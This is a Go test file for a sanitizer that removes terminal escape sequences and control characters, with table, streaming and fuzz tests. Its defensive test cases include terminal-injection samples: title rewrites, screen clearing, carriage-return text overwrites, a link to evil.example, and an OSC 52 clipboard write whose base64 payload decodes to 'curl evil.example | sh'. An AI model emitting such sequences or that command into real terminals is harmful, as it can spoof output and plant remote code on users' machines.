package sanitize

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
)

// attacks are real terminal attacks as a page or a model could send them,
// with what must be left of each.
var attacks = []struct{ name, in, want string }{
	{"title BEL", "Breaking\x1b]0;you have been pwned\x07 news", "Breaking news"},
	{"title ST", "a\x1b]2;pwned\x1b\\b", "ab"},
	{"OSC 52 clipboard", "quote\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 end", "quote end"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
	{"clear screen", "\x1b[2J\x1b[3J\x1b[Hfake prompt", "fake prompt"},
	{"reset", "\x1bcafter", "after"},
	{"charset", "\x1b(0lqqk\x1b(B", "lqqk"},
	{"SGR colours", "\x1b[38;5;196mred\x1b[0m", "red"},
	{"private CSI", "\x1b[?1049h\x1b[?25lhidden", "hidden"},
	{"8-bit CSI", "x\u009b2Jy", "xy"},
	{"8-bit OSC", "x\u009d0;title\u009cy", "xy"},
	{"8-bit OSC BEL", "x\u009d52;c;aGk=\x07y", "xy"},
	{"raw C1 byte", "x\x9b2Jy", "x\ufffd2Jy"},
	{"DCS tmux passthrough", "a\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\b", "ab"},
	{"APC", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
	{"bell and backspace", "safe\b\b\b\bevil\a", "safeevil"},
	{"carriage return overwrite", "The claim is false\rThe claim is true", "The claim is false\nThe claim is true"},
	{"CRLF", "one\r\ntwo\r\n", "one\ntwo\n"},
	{"NUL and DEL", "a\x00b\x7fc", "abc"},
	{"tab and newline kept", "a\tb\nc", "a\tb\nc"},
	{"C1 NEL", "a\u0085b", "ab"},
	{"unterminated OSC stops at newline", "x\x1b]0;swallow everything\nstill shown", "x\nstill shown"},
	{"ESC before text", "\x1bé\x1b\n", "é\n"},
	{"CSI broken by newline", "\x1b[12\nnext", "\nnext"},
	{"invalid UTF-8", "ok\xff\xfeok", "ok\ufffd\ufffdok"},
	{"plain", "Photo does not show flooding in Lagos — “quoted”", "Photo does not show flooding in Lagos — “quoted”"},
}

func TestString(t *testing.T) {
	for _, a := range attacks {
		if got := String(a.in); got != a.want {
			t.Errorf("%s: String(%q) = %q, want %q", a.name, a.in, got, a.want)
		}
	}
}

// TestAnsiStripIsNotEnough records why this package exists beside
// charmbracelet/x/ansi: Strip keeps controls that still act on a terminal.
func TestAnsiStripIsNotEnough(t *testing.T) {
	for _, s := range []string{"a\ab", "a\rb", "a\bb", "x\u009b2Jy"} {
		if got := ansi.Strip(s); !hasControl(got) {
			t.Errorf("ansi.Strip(%q) = %q: it now removes controls; consider using it", s, got)
		}
		if got := String(s); hasControl(got) {
			t.Errorf("String(%q) = %q keeps a control", s, got)
		}
	}
}

func hasControl(s string) bool {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || isC1(r) {
			return true
		}
	}
	return false
}

func TestStringDoesNotCopyCleanText(t *testing.T) {
	s := strings.Repeat("clean text\twith tabs\n", 10)
	if got := String(s); got != s {
		t.Fatalf("changed clean text")
	}
	if n := testing.AllocsPerRun(10, func() { String(s) }); n != 0 {
		t.Errorf("String of clean text allocates %v times", n)
	}
}

func TestWriterAcrossWrites(t *testing.T) {
	for _, a := range attacks {
		// Every split point, byte by byte included.
		for cut := 0; cut <= len(a.in); cut++ {
			var b bytes.Buffer
			w := NewWriter(&b)
			for _, part := range []string{a.in[:cut], a.in[cut:]} {
				if n, err := w.WriteString(part); err != nil || n != len(part) {
					t.Fatalf("Write = %d, %v", n, err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if b.String() != a.want {
				t.Errorf("%s cut at %d: wrote %q, want %q", a.name, cut, b.String(), a.want)
			}
		}
	}
}

func TestWriterHoldsOnlyAPartialRune(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	w.Write([]byte("caf\xc3"))
	if b.String() != "caf" {
		t.Errorf("after a partial é: %q", b.String())
	}
	w.Write([]byte("\xa9 ok"))
	if b.String() != "café ok" {
		t.Errorf("after the rest: %q", b.String())
	}
	w.Write([]byte("\xe2\x80"))
	w.Flush()
	if b.String() != "café ok\ufffd\ufffd" { // one U+FFFD per byte, as utf8.DecodeRune reads them
		t.Errorf("a rune never completed: %q", b.String())
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterReportsErrors(t *testing.T) {
	if _, err := NewWriter(failing{}).Write([]byte("x")); err == nil {
		t.Error("the underlying error was lost")
	}
}

func FuzzString(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.in, uint8(3))
	}
	f.Fuzz(func(t *testing.T, s string, step uint8) {
		got := String(s)
		if !utf8.ValidString(got) {
			t.Fatalf("String(%q) = %q is not UTF-8", s, got)
		}
		if hasControl(got) {
			t.Fatalf("String(%q) = %q keeps a control", s, got)
		}
		if again := String(got); again != got {
			t.Fatalf("not idempotent: %q then %q", got, again)
		}
		if len(got) > 3*len(s) {
			t.Fatalf("grew from %d to %d bytes", len(s), len(got))
		}
		// The Writer, fed in pieces of step bytes, writes the same.
		n := int(step%16) + 1
		var b bytes.Buffer
		w := NewWriter(&b)
		for i := 0; i < len(s); i += n {
			w.Write([]byte(s[i:min(i+n, len(s))]))
		}
		w.Flush()
		if b.String() != got {
			t.Fatalf("Writer in pieces of %d wrote %q, String gives %q", n, b.String(), got)
		}
	})
}
